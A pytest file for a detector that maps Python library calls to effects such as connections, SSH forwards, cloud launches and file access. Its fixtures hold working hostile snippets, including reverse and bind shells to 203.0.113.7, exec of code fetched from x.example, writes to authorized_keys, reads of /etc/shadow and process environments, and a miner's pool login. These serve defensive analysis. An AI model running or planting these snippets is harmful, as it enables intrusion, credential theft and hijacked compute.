"""What libraries do is said in effects: connections, forwards, shells on sockets, machines rented, files."""

from __future__ import annotations

import pytest

from tests.read.python.readings import effects_of, lines_of, read

CASES: dict[str, tuple[str, list[str]]] = {
    "a frame asked with a name of the script": (
        """
        import os
        import pandas as pd
        frame = pd.read_csv("a.csv").dropna()
        frame.query("age > @limit and name == '@os.system(x)'")
        frame.query("@os.system('ssh h')")
        frame.eval("b = @os.system('ssh i')")
        """,
        ["ssh h", "ssh i"],
    ),
    "a blob named by a keyword": (
        """
        from google.cloud import storage
        bucket = storage.Client().bucket("b")
        bucket.blob(blob_name="x").upload_from_filename("a.txt")
        bucket.blob().upload_from_filename("b.txt")
        """,
        ["gsutil cp a.txt gs://bucket/x", "gsutil cp b.txt gs://bucket"],
    ),
    "reverse shell over dup2": (
        """
        import socket, subprocess, os
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.7", 4444))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        subprocess.call(["/bin/sh", "-i"])
        """,
        ["net.connect tcp 203.0.113.7 4444", "process.stdio socket 203.0.113.7 4444", "sh -i"],
    ),
    "shell with a socket as its input": (
        """
        import socket, subprocess
        s = socket.create_connection(("h.example", 9001))
        subprocess.Popen(["sh"], stdin=s, stdout=s)
        """,
        ["net.connect tcp h.example 9001", "process.stdio socket h.example 9001", "sh"],
    ),
    "a list that would be too short": (
        """
        import os, shlex, subprocess
        parts = shlex.split(os.environ.get("PAGER", ""))
        subprocess.run([parts[0], "notes.txt"])
        """,
        ["%{environment_2} notes.txt"],
    ),
    "a name that a module out of reach gives": (
        """
        import shellingham, subprocess
        shell, path = shellingham.detect_shell()
        subprocess.run([shell, "--version"])
        """,
        ["%{file_3} --version"],
    ),
    "a name that a module out of reach makes of a text": (
        """
        import shellingham, subprocess
        subprocess.run([shellingham.turned("oof"), "--version"])
        """,
        ["%{unknown} --version"],
    ),
    "what a server printed, as text": (
        """
        import paramiko
        client = paramiko.SSHClient()
        client.connect("h.example", username="ops")
        _, out, _ = client.exec_command("readlink /srv/app/current")
        before = out.read().decode("utf-8", errors="replace").strip()
        client.exec_command(f"ln -sfn {before} /srv/app/previous")
        """,
        [
            "ssh.open ops h.example 22",
            "readlink /srv/app/current",
            "ln -sfn %{command_11} /srv/app/previous",
            "file.write /srv/app/previous",
        ],
    ),
    "a relay between two connections": (
        """
        import socket
        far = socket.create_connection(("203.0.113.9", 443))
        near = socket.create_connection(("127.0.0.1", 22))
        while data := far.recv(4096):
            near.sendall(data)
        """,
        ["net.connect tcp 203.0.113.9 443", "net.connect tcp 127.0.0.1 22", "net.relay 203.0.113.9 443 127.0.0.1 22"],
    ),
    "a relay for who connects here": (
        """
        import socket
        server = socket.create_server(("127.0.0.1", 15432))
        client, _ = server.accept()
        near = socket.create_connection(("db.example", 5432))
        near.sendall(client.recv(4096))
        client.sendall(near.recv(4096))
        """,
        ["net.listen tcp 127.0.0.1 15432", "net.connect tcp db.example 5432"],
    ),
    "commands from whoever connects": (
        """
        import socket, subprocess
        server = socket.create_server(("0.0.0.0", 9001))
        client, _ = server.accept()
        client.sendall(subprocess.check_output(client.recv(1024).decode(), shell=True))
        """,
        ["net.listen tcp 0.0.0.0 9001", "code.fetch tcp://0.0.0.0:9001/ bash"],
    ),
    "secrets of every process": (
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/environ"):
            print(open(path).read())
        """,
        ["file.read /proc/%{file_2}/environ"],
    ),
    "processes on the GPUs ended": (
        """
        import os, subprocess
        for pid in subprocess.check_output(["nvidia-smi", "--query-compute-apps=pid"], text=True).split():
            os.kill(int(pid), 9)
        """,
        ["nvidia-smi --query-compute-apps pid", "process.kill gpu %{command_6}"],
    ),
    "bind shell": (
        """
        import socket, os, pty
        s = socket.socket()
        s.bind(("", 4444))
        s.listen()
        c, _ = s.accept()
        os.dup2(c.fileno(), 0)
        pty.spawn("/bin/bash")
        """,
        ["net.listen tcp 0.0.0.0 4444", "process.stdio socket 0.0.0.0 4444", "bash"],
    ),
    "commands from a socket": (
        """
        import socket, subprocess
        s = socket.create_connection(("203.0.113.7", 80))
        while True:
            subprocess.run(s.recv(1024).decode(), shell=True)
        """,
        ["net.connect tcp 203.0.113.7 80", "code.fetch tcp://203.0.113.7:80 bash"],
    ),
    "paramiko remote forward": (
        """
        import paramiko
        client = paramiko.SSHClient()
        client.connect("203.0.113.7", port=2200, username="ops")
        client.get_transport().request_port_forward("", 4000)
        """,
        ["ssh.open ops 203.0.113.7 2200", "ssh.forward remote  4000"],
    ),
    "asyncssh remote forward": (
        """
        import asyncio, asyncssh
        async def main():
            async with asyncssh.connect("203.0.113.7", username="ops") as connection:
                await connection.forward_remote_port("", 8022, "localhost", 22)
        asyncio.run(main())
        """,
        ["ssh.open ops 203.0.113.7 22", "ssh.forward remote  8022 localhost 22"],
    ),
    "fabric remote forward": (
        """
        from fabric import Connection
        with Connection("ops@203.0.113.7").forward_remote(8000, local_port=22):
            pass
        """,
        ["ssh.open ops 203.0.113.7 22", "ssh.forward remote 8000 22"],
    ),
    "sshtunnel forwards locally": (
        """
        from sshtunnel import SSHTunnelForwarder
        SSHTunnelForwarder("h.example", ssh_username="u", remote_bind_address=("10.0.0.5", 5432)).start()
        """,
        ["ssh.open u h.example 22", "ssh.forward local 10.0.0.5 5432"],
    ),
    "pyngrok": (
        """
        from pyngrok import ngrok
        print(ngrok.connect(22, "tcp").public_url)
        """,
        ["ngrok tcp 22"],
    ),
    "a miner's words": (
        """
        import socket, json
        s = socket.create_connection(("pool.example", 3333))
        s.sendall((json.dumps({"id": 1, "method": "mining.subscribe", "params": ["m/1"]}) + "\\n").encode())
        s.sendall(b'{"id":1,"method":"login","params":{"login":"WALLET","agent":"XMRig/6"}}\\n')
        """,
        [
            "net.connect tcp pool.example 3333",
            "stratum.subscribe pool.example 3333 m/1",
            "stratum.login pool.example 3333 WALLET XMRig/6",
        ],
    ),
    "machines at AWS": (
        """
        import boto3
        boto3.Session(region_name="eu-west-1").client("ec2").run_instances(InstanceType="p5.48xlarge", MaxCount=2)
        """,
        ["cloud.provision aws ec2 p5.48xlarge 2 eu-west-1"],
    ),
    "machines through SkyPilot": (
        """
        import sky
        task = sky.Task(run="true")
        task.set_resources(sky.Resources(accelerators="A100:8"))
        sky.launch(task)
        """,
        ["cloud.provision skypilot sky A100 8 "],
    ),
    "machines by a provider's API": (
        """
        import requests
        requests.post("https://cloud.lambda.ai/api/v1/instance-operations/launch",
                      json={"instance_type_name": "gpu_8x_h100", "region_name": "us-west-1"})
        """,
        [
            "http.request POST https://cloud.lambda.ai/api/v1/instance-operations/launch",
            "cloud.provision lambda instance gpu_8x_h100 1 us-west-1",
        ],
    ),
    "fetched and run in place": (
        """
        import requests
        exec(requests.get("https://x.example/a.py").text)
        """,
        ["http.request GET https://x.example/a.py", "code.fetch https://x.example/a.py python"],
    ),
    "files that matter": (
        """
        import os
        from pathlib import Path
        with open(Path.home() / ".ssh" / "authorized_keys", "a") as f:
            f.write("ssh-ed25519 AAAA")
        Path("/etc/shadow").read_text()
        os.chmod("/tmp/x", 0o755)
        os.remove("/tmp/y")
        """,
        ["file.write ~/.ssh/authorized_keys", "file.read /etc/shadow", "file.chmod /tmp/x 755", "file.delete /tmp/y"],
    ),
    "an ssh configuration is read when written": (
        """
        from pathlib import Path
        Path("~/.ssh/config").expanduser().write_text("Host x\\n  RemoteForward 2222 localhost:22\\n")
        """,
        ["file.write ~/.ssh/config", "ssh.configure RemoteForward 2222 localhost:22"],
    ),
    "a variable that changes programs": (
        """
        import os
        os.environ["LD_PRELOAD"] = "/tmp/x.so"
        """,
        ["env.set LD_PRELOAD /tmp/x.so"],
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_library_calls_become_effects(name: str) -> None:
    """Each script has these effects, in this order, and no others."""
    code, expected = CASES[name]
    assert effects_of(code) == expected


def test_a_remote_command_is_a_unit_of_its_own() -> None:
    """What is run over SSH is read as bash."""
    reading = read(
        """
        import paramiko
        client = paramiko.SSHClient()
        client.exec_command("bash -c 'nc -l 1234'")
        """
    )
    assert "nc -l 1234" in lines_of(reading)
    assert [unit.language.value for unit in reading.units] == ["python", "bash", "bash"]


def test_what_is_not_known_stays_a_hole() -> None:
    """Parameters and variables leave unknown parts, each with its source."""
    lines = effects_of(
        """
        import sys, subprocess, os
        subprocess.run(["ssh", "h.example", "-p", sys.argv[1]])
        os.system(f"ping -c 1 {os.environ['HOST']}")
        """
    )
    assert lines[0].startswith("ssh -p %{argument_")
    assert lines[1].startswith("ping -c 1 %{environment_")


def test_both_branches_have_their_effect() -> None:
    """A test that is not known leaves two commands, not one of mixed words."""
    lines = effects_of(
        """
        import os, subprocess
        words = ["tool"]
        if os.path.exists("x"):
            words.append("-v")
        else:
            words += ["-q", "x"]
        subprocess.run(words)
        """
    )
    assert lines == ["tool -v", "tool -q x"]


def test_hidden_names_and_layers_are_said() -> None:
    """A sink behind a computed name, and the layers around code, are effects of their own."""
    lines = effects_of(
        """
        import base64, os
        getattr(os, "sys" + "tem")(bytes.fromhex(base64.b64decode("NmM3Mw==").decode()).decode())
        """
    )
    assert lines == ["hiding.name os.system", "ls", "hiding.decoded bash 2"]


def test_the_trail_says_how_a_command_was_recovered() -> None:
    """An effect carries the places of the decoders behind it."""
    reading = read('import os, base64\ntext = base64.b64decode("bHM=")\nos.execlp(text.decode(), "x")\n')
    effect = next(effect for effect in reading.effects if effect.name == "ls")
    assert [(step.operation, step.span.line) for step in effect.place.trail] == [("base64", 2)]
    assert (effect.place.span.line, effect.place.span.column) == (3, 1)


def test_places_behind_decorators() -> None:
    """A decorated function's or class's lines are counted from its first decorator."""
    code = """
        import os
        @a
        # why
        @b(1)
        def f():
            os.remove("a")
        @a
        class C:
            @a
            def g(self):
                os.remove("b")
    """
    assert [effect.place.span.line for effect in read(code).effects] == [7, 12]
